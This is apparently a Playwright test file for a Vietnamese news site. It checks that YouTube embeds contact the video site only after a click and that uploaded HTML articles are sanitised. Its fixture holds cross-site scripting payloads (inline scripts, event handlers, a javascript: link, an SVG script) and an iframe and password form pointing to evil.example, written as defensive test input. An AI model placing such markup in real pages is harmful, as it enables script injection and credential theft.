"""A video in an article, in Chromium: nothing is asked of the video site until the reader clicks."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Route, expect

from local.stack import LocalStack
from tests.support.photos import phone_photo
from tests.support.site import article_md

URL = "/tin-tuc/video-le-trao-giai.html"
pytestmark = pytest.mark.browser


def wait_for_the_player(page: Page) -> None:
    """Wait until the clicked player's frame has loaded the test's local answer.

    ``networkidle`` can come before the frame's request is answered; a page closed
    then aborts it (ERR_ABORTED), which the error watch would report.
    """
    player = page.frame_locator(".article-body figure.video iframe")
    expect(player.locator("title")).to_have_count(1)  # the answer arrived and was parsed


def test_a_video_loads_its_privacy_enhanced_player_only_on_click(
    site: LocalStack, page: Page, errors: list[str]
) -> None:
    body = "Lễ trao giải năm nay.\n\n[Lễ trao giải VIFOTEC](https://www.youtube.com/watch?v=dQw4w9WgXcQ)\n"
    site.upload(
        "articles/tin-tuc/video-le-trao-giai.md",
        article_md("Video lễ trao giải", "2024-04-12T09:00:00+07:00", body, slug="video-le-trao-giai"),
    )
    site.process_queue()
    outside: list[str] = []

    def player(route: Route) -> None:  # no network here: the player answers locally
        outside.append(route.request.url)
        route.fulfill(content_type="text/html", body="<!DOCTYPE html><title>player</title>")

    page.route("https://www.youtube-nocookie.com/**", player)
    page.route("https://**youtube.com/**", lambda route: (outside.append(route.request.url), route.abort()))
    page.goto(site.site_url + URL)
    page.wait_for_load_state("networkidle")
    button = page.get_by_role("button", name="Lễ trao giải VIFOTEC")
    expect(button).to_be_visible()
    assert page.locator("iframe").count() == 0 and outside == [], "the video site was asked before a click"
    button.click()
    frame = page.locator(".article-body figure.video iframe")
    expect(frame).to_have_attribute("src", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1")
    wait_for_the_player(page)
    assert outside == ["https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"]
    assert page.locator(".article-body figure.video figcaption a").get_attribute("href") == (
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
    )
    assert errors == []


def test_a_poster_of_the_sites_own_shows_on_the_button_and_the_video_site_still_waits(
    site: LocalStack, page: Page, errors: list[str]
) -> None:
    site.upload("media/anh/trao-giai.jpg", phone_photo())
    body = "[![Lễ trao giải VIFOTEC](/media/anh/trao-giai.jpg)](https://youtu.be/dQw4w9WgXcQ)\n"
    site.upload(
        "articles/tin-tuc/video-co-anh.md",
        article_md("Video có ảnh bìa", "2024-04-13T09:00:00+07:00", body, slug="video-co-anh"),
    )
    site.process_queue()  # the picture function, then the article it sends back
    outside: list[str] = []
    page.route(
        "https://**/**", lambda route: (outside.append(route.request.url), route.abort())
    )  # no other site is asked anything: the poster is ours
    page.goto(site.site_url + "/tin-tuc/video-co-anh.html")
    page.wait_for_load_state("networkidle")
    button = page.get_by_role("button", name="Lễ trao giải VIFOTEC")
    expect(button).to_be_visible()
    poster = button.locator("img")
    poster.scroll_into_view_if_needed()
    expect(poster).to_have_js_property("complete", True)
    assert poster.evaluate("img => img.naturalWidth") > 0
    assert (poster.evaluate("img => img.currentSrc") or "").startswith(
        site.site_url + "/media/anh/trao-giai."
    )
    box = button.bounding_box()
    assert box is not None and box["height"] > 200  # the poster fills the placeholder
    assert outside == [] and page.locator("iframe").count() == 0
    assert errors == []


HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><title>Hội thảo an toàn thông tin</title>
<meta name="author" content="Phòng Thông tin">
<meta name="date" content="2024-04-20T08:00:00+07:00">
<script>window.__pwned = "head";</script>
<style>body { display: none }</style>
</head><body onload="window.__pwned = 'onload'">
<h1>Hội thảo an toàn thông tin</h1>
<p>Chuyên gia cảnh báo <a href="javascript:window.__pwned='link'">mã độc</a> và
<img src="x" onerror="window.__pwned = 'onerror'" alt="ảnh lỗi"> lừa đảo trực tuyến.</p>
<script>window.__pwned = "body"; alert(1)</script>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>window.__pwned = "svg"</script><circle onload="window.__pwned = 'svg-onload'"/></svg>
<form action="https://evil.example/steal"><input name="password"></form>
<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Toàn văn hội thảo</a></p>
<table><tr><th>Nội dung</th><td onmouseover="window.__pwned='td'">Phòng chống lừa đảo</td></tr></table>
</body></html>
"""


def test_a_hostile_html_article_runs_nothing_and_its_video_waits_for_a_click(
    site: LocalStack, page: Page, errors: list[str]
) -> None:
    site.upload("articles/tin-tuc/hoi-thao-an-toan.html", HOSTILE_PAGE)
    site.process_queue()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    outside: list[str] = []

    def player(route: Route) -> None:  # no network here: the player answers locally
        outside.append(route.request.url)
        route.fulfill(content_type="text/html", body="<!DOCTYPE html><title>player</title>")

    page.route("https://**/**", lambda route: (outside.append(route.request.url), route.abort()))
    page.route("https://www.youtube-nocookie.com/**", player)
    page.goto(site.site_url + "/tin-tuc/hoi-thao-an-toan.html")
    page.wait_for_load_state("networkidle")
    expect(page.locator("h1")).to_have_text("Hội thảo an toàn thông tin")
    expect(page.locator(".article-body table td")).to_have_text("Phòng chống lừa đảo")
    page.locator(".article-body td").hover()
    page.locator(".article-body a", has_text="mã độc").click()  # its javascript: href is gone
    assert page.evaluate("window.__pwned") is None and dialogs == []
    body = page.locator(".article-body").inner_html()
    assert "<script" not in body and "<iframe" not in body and "<form" not in body and "<svg" not in body
    assert outside == [], "nothing may be fetched from another site before a click"
    page.get_by_role("button", name="Toàn văn hội thảo").click()
    expect(page.locator(".article-body figure.video iframe")).to_have_attribute(
        "src", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"
    )
    wait_for_the_player(page)
    assert outside == ["https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"]
    # The only console error: the broken picture's own 404 (its onerror handler was stripped).
    assert errors == ["Failed to load resource: the server responded with a status of 404 (Not Found)"]
    errors.clear()
